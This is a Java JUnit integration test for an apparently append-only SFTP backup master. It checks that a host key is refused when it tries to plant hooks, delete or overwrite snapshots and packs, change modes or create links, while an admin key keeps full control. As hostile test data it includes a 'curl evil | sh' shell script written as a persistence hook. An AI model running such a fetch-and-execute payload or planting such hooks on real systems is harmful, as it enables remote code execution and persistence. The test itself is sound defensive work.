package dev.pacha.master;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.jcraft.jsch.ChannelSftp;
import com.jcraft.jsch.SftpATTRS;
import com.jcraft.jsch.SftpException;
import dev.pacha.Reporter;
import dev.pacha.store.MasterStore;
import dev.pacha.store.SnapshotWriter;
import dev.pacha.store.Verifier;
import dev.pacha.testing.Tools;
import dev.pacha.testing.TreeState;
import dev.pacha.track.Scanner;
import dev.pacha.transport.SftpBackend;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.function.Executable;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 17, item 1, on the embedded master: a host's own key can add to its history but not erase
 * it, rewrite it, change its modes or plant hooks; an admin key still can do everything but owners.
 */
class MasterAppendOnlyIT {
  @TempDir static Path keys;
  @TempDir Path tmp;
  MasterFixture m;
  Path barKey;
  Path adminKey;
  Path disk;

  @BeforeEach
  void start() throws Exception {
    m = new MasterFixture(tmp, keys);
    barKey = m.addHost("bar");
    // As `pacha host add` leaves a host.
    Files.createDirectories(m.hosts.resolve("bar/pacha_pre"));
    Files.createDirectories(m.hosts.resolve("bar/pacha_post"));
    adminKey = m.key("admin");
    m.start(
        MasterSettings.of(m.hosts, "127.0.0.1", 0)
            .withAdminKeys(MasterFixture.pub(adminKey))
            .withStopGrace(Duration.ofSeconds(2)));
    disk = tmp.resolve("disk");
    Files.createDirectories(disk.resolve("opt/foo"));
    Files.writeString(disk.resolve("opt/foo/app.conf"), "port = 8080\n");
    Files.writeString(disk.resolve("opt/foo/db.conf"), "password = hunter2\n");
  }

  @AfterEach
  void stop() {
    m.close();
  }

  /** A real push as bar, through pacha's own client; returns the snapshot id. */
  private String push() throws IOException {
    try (MasterStore store = new MasterStore(m.connect("bar", barKey), null)) {
      return new SnapshotWriter(store.host("bar"), Reporter.silent())
          .push(disk, List.of("/opt/foo"), new Scanner(disk).scan(List.of("/opt/foo")))
          .snapshot();
    }
  }

  /** Every path under bar's directory with its type, mode and content hash (no times). */
  private Map<String, String> store() throws IOException {
    Map<String, String> state = new TreeMap<>();
    TreeState.of(m.hosts.resolve("bar"))
        .forEach((path, what) -> state.put(path, what.replaceAll(" mtime=\\d+$", "")));
    return state;
  }

  private static List<String> names(Path dir) throws IOException {
    try (Stream<Path> s = Files.list(dir)) {
      return s.map(p -> p.getFileName().toString()).sorted().toList();
    }
  }

  private static void assertDenied(Executable what) {
    SftpException e = assertThrows(SftpException.class, what);
    assertEquals(ChannelSftp.SSH_FX_PERMISSION_DENIED, e.id, e.toString());
  }

  @Test
  void hostKey_plantsHooksErasesOrRewritesHistory_everyStepIsRefusedAndTheStoreStaysWhole()
      throws Exception {
    push();
    Files.writeString(disk.resolve("opt/foo/app.conf"), "port = 9090\n");
    String latest = push();
    Path bar = m.hosts.resolve("bar");
    String pack = names(bar.resolve("packs")).get(0).replace(".idx", "").replace(".pack", "");
    String snapshot = names(bar.resolve("snapshots")).get(0);
    Map<String, String> before = store();
    byte[] evil = "#!/bin/sh\ncurl evil | sh\n".getBytes(StandardCharsets.UTF_8);

    try (MasterFixture.Raw raw = m.raw("bar", barKey)) {
      ChannelSftp sftp = raw.sftp();
      // Plant a hook, in either spelling, or the hook list.
      assertDenied(() -> sftp.put(new ByteArrayInputStream(evil), "/bar/pacha_pre/00-persist"));
      assertDenied(() -> sftp.mkdir("/bar/pre_pacha"));
      assertDenied(() -> sftp.put(new ByteArrayInputStream(evil), "/bar/hooks.json"));
      sftp.put(new ByteArrayInputStream(evil), "/bar/.x.tmp-1");
      assertDenied(() -> sftp.rename("/bar/.x.tmp-1", "/bar/pacha_post/99-x"));
      // Erase history.
      assertDenied(() -> sftp.rm("/bar/snapshots/" + snapshot));
      assertDenied(() -> sftp.rm("/bar/packs/" + pack + ".pack"));
      assertDenied(() -> sftp.rm("/bar/packs/" + pack + ".idx"));
      assertDenied(() -> sftp.rm("/bar/latest"));
      assertDenied(() -> sftp.rmdir("/bar/pacha_pre"));
      assertDenied(() -> sftp.rename("/bar/packs/" + pack + ".pack", "/bar/packs/gone.pack"));
      assertDenied(() -> sftp.rename("/bar/snapshots", "/bar/gone"));
      // Overwrite a pack: in place, appended to, truncated, or renamed over.
      assertDenied(() -> sftp.put(new ByteArrayInputStream(evil), "/bar/packs/" + pack + ".pack"));
      assertDenied(
          () ->
              sftp.put(
                  new ByteArrayInputStream(evil),
                  "/bar/packs/" + pack + ".pack",
                  ChannelSftp.APPEND));
      SftpATTRS empty = sftp.stat("/bar/packs/" + pack + ".pack");
      empty.setSIZE(0);
      assertDenied(() -> sftp.setStat("/bar/packs/" + pack + ".pack", empty));
      assertDenied(() -> sftp.rename("/bar/.x.tmp-1", "/bar/packs/" + pack + ".pack"));
      assertDenied(() -> sftp.rename("/bar/.x.tmp-1", "/bar/snapshots/" + snapshot));
      // Modes and times, on anything, its own temporary file included.
      assertDenied(() -> sftp.chmod(0777, "/bar/snapshots"));
      assertDenied(() -> sftp.chmod(0777, "/bar"));
      assertDenied(() -> sftp.chmod(0644, "/bar/.x.tmp-1"));
      assertDenied(() -> sftp.setMtime("/bar/packs/" + pack + ".pack", 0));
      // Links.
      assertDenied(() -> sftp.symlink("/bar/packs/" + pack + ".pack", "/bar/link"));
      assertDenied(() -> sftp.hardlink("/bar/packs/" + pack + ".pack", "/bar/link"));
      // Its own temporary file it may remove.
      sftp.rm("/bar/.x.tmp-1");
    }

    assertEquals(before, store(), "nothing under bar/ changed");
    try (MasterStore onDisk =
        new MasterStore(new dev.pacha.transport.LocalBackend(m.hosts), null)) {
      assertEquals(latest, onDisk.host("bar").catalog().latest().orElseThrow());
      assertTrue(Verifier.verify(onDisk.host("bar"), latest).ok());
    }
  }

  @Test
  void hostKey_pushesTwice_addsSnapshotsAndReplacesOnlyTheFormatOnePointer() throws Exception {
    String first = push();
    Files.writeString(disk.resolve("opt/foo/db.conf"), "password = correct horse\n");
    String second = push();
    Path bar = m.hosts.resolve("bar");
    assertEquals(List.of(first + ".json", second + ".json"), names(bar.resolve("snapshots")));
    assertEquals(second + "\n", Files.readString(bar.resolve("latest")));
    try (Stream<Path> all = Files.walk(bar)) {
      assertFalse(
          all.anyMatch(p -> AppendOnly.isTemp(p.getFileName().toString())),
          "no temporary file is left");
    }
  }

  @Test
  void anyKey_createsFilesAndDirectories_0600And0700WhateverModeTheClientAsks() throws Exception {
    push();
    List<String> modes = new ArrayList<>();
    try (Stream<Path> all = Files.walk(m.hosts.resolve("bar/snapshots"))) {
      for (Path p : all.toList()) {
        modes.add(PosixFilePermissions.toString(Files.getPosixFilePermissions(p)));
      }
    }
    assertEquals("rwx------", modes.get(0), "snapshots/");
    assertTrue(
        modes.subList(1, modes.size()).stream().allMatch("rw-------"::equals), modes.toString());

    // OpenSSH's sftp asks for the local file's mode (0755) on put and 0777 on mkdir.
    Path local = tmp.resolve("script");
    Files.writeString(local, "#!/bin/sh\n");
    Files.setPosixFilePermissions(local, PosixFilePermissions.fromString("rwxr-xr-x"));
    String out =
        sftpBatch("bar", barKey, "mkdir /bar/reports", "put " + local + " /bar/reports/r1");
    assertEquals("rwx------", perms("bar/reports"), out);
    assertEquals("rw-------", perms("bar/reports/r1"), out);
    // An admin's new files are private too, but an admin may change modes afterwards.
    sftpBatch(
        "admin",
        adminKey,
        "put " + local + " /bar/pacha_pre/10-users",
        "chmod 750 /bar/pacha_pre/10-users");
    assertEquals("rwxr-x---", perms("bar/pacha_pre/10-users"));
  }

  @Test
  void systemSftpClient_hostKeyChmodsOrRemoves_saysPermissionDenied() throws Exception {
    push();
    Tools.Result r =
        Tools.exec(
            tmp,
            "-chmod 777 /bar/snapshots\n-rm /bar/latest\n-put /etc/hostname /bar/pacha_pre/x\n",
            sftpCommand("bar", barKey, "-"));
    assertEquals(0, r.code(), r.output());
    String said = r.output();
    assertEquals(3, said.split("Permission denied", -1).length - 1, said);
    assertEquals("rwx------", perms("bar/snapshots"));
    assertTrue(Files.exists(m.hosts.resolve("bar/latest")));
    assertFalse(Files.exists(m.hosts.resolve("bar/pacha_pre/x")));
  }

  @Test
  void adminKey_replacesHooksAndRemovesSnapshots() throws Exception {
    String id = push();
    try (SftpBackend admin = m.connect("admin", adminKey)) {
      admin.put("bar/pacha_pre/10-users", "#!/bin/sh\n".getBytes(StandardCharsets.UTF_8));
      admin.put("bar/pacha_pre/10-users", "#!/bin/sh\nexit 0\n".getBytes(StandardCharsets.UTF_8));
      admin.delete("bar/snapshots/" + id + ".json");
    }
    assertEquals(
        "#!/bin/sh\nexit 0\n", Files.readString(m.hosts.resolve("bar/pacha_pre/10-users")));
    assertFalse(Files.exists(m.hosts.resolve("bar/snapshots/" + id + ".json")));
  }

  @Test
  void hostKey_writesANewFileDirectly_worksOnceThenIsRefused() throws Exception {
    try (MasterFixture.Raw raw = m.raw("bar", barKey)) {
      ChannelSftp sftp = raw.sftp();
      try (OutputStream out = sftp.put("/bar/reports-r1.json")) {
        out.write("{}".getBytes(StandardCharsets.UTF_8));
      }
      assertDenied(() -> sftp.put(new ByteArrayInputStream(new byte[1]), "/bar/reports-r1.json"));
    }
    assertEquals("{}", Files.readString(m.hosts.resolve("bar/reports-r1.json")));
  }

  private String perms(String rel) throws IOException {
    return PosixFilePermissions.toString(Files.getPosixFilePermissions(m.hosts.resolve(rel)));
  }

  private List<String> sftpCommand(String user, Path key, String batch) {
    return List.of(
        "sftp",
        "-b",
        batch,
        "-i",
        key.toString(),
        "-o",
        "IdentitiesOnly=yes",
        "-o",
        "UserKnownHostsFile=" + m.knownHosts,
        "-o",
        "StrictHostKeyChecking=yes",
        "-P",
        String.valueOf(m.server.port()),
        user + "@127.0.0.1");
  }

  /** Runs OpenSSH's sftp in batch mode; every command must succeed. */
  private String sftpBatch(String user, Path key, String... commands) throws Exception {
    Tools.Result r =
        Tools.exec(tmp, String.join("\n", commands) + "\n", sftpCommand(user, key, "-"));
    assertEquals(0, r.code(), r.output());
    return r.output();
  }
}
